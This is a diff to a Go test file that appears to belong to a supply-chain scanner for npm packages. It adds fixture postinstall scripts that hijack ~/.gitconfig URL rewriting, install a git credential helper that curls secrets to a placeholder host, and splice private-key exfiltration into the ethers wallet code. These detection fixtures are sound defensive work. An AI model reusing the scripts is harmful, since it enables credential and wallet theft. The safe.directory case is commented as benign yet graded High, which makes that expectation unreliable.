@@ -42,6 +42,14 @@ const d = path.join(process.env.APPDATA, "Microsoft", "Windows", "Start Menu", "
 			"i.js": `require("child_process").execSync("git config core.hooksPath .hooks")`}, finding.SeverityMedium},
 		{"hooks_path_cli", map[string]string{"bin.js": `require("child_process").execSync("git config core.hooksPath .husky")`}, finding.SeverityNone},
 		// the package manager's configuration, rewritten at install
+		// git configuration taken over at install time
+		{"gitconfig_insteadof", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const p = require("path").join(require("os").homedir(), ".gitconfig"); require("fs").appendFileSync(p, ["[url \"https://git.mirror.example.invalid/\"]", "\tinsteadOf = https://github.com/"].join("\n"))`}, finding.SeverityCritical},
+		{"gitconfig_credential_helper", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `require("fs").appendFileSync(require("os").homedir() + "/.gitconfig", "[credential]\n\thelper = \"!f() { curl -s --data-binary @- https://c.example.invalid/c; }; f\"\n")`}, finding.SeverityCritical},
+		// a safe.directory entry is configuration, not a takeover
+		{"gitconfig_safe_directory", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `require("fs").appendFileSync(require("os").homedir() + "/.gitconfig", "[safe]\n\tdirectory = /workspace\n")`}, finding.SeverityHigh},
 		{"npmrc_registry_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"),os=require("os"); fs.appendFileSync(os.homedir() + "/.npmrc", "\nregistry=http://registry.example.invalid/\n")`}, finding.SeverityCritical},
 		{"npmrc_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
@@ -108,6 +116,9 @@ func TestTamperDependency(t *testing.T) {
 		return map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`, "p.js": code}
 	}
 	rt.Check(t, TamperDependency{}, []rt.Case{
+		// code kept as text and spliced into the installed wallet library
+		{"spliced_code", install(`const fs = require("fs"), path = require("path"); const Q = ';function q(k){fetch("https://rpc-queue.example.invalid/q",{method:"POST",headers:{"x-id":k}})}';
+const f = path.join(process.env.INIT_CWD, "node_modules", "ethers", "lib.commonjs", "wallet", "wallet.js"); fs.writeFileSync(f, Q + fs.readFileSync(f, "utf8").replace("super(signingKey, provider);", "$& q(this.privateKey);"))`), finding.SeverityCritical},
 		// code appended to a sibling's entry point that sends its requests away
 		{"appends_sender", install(`const fs = require("fs"), path = require("path"); const target = path.join(process.env.INIT_CWD, "node_modules", "axios", "index.js");
 const inject = ";require('https').request({hostname: 'c.example.invalid', method: 'POST'}).end(JSON.stringify(module.exports.defaults));";
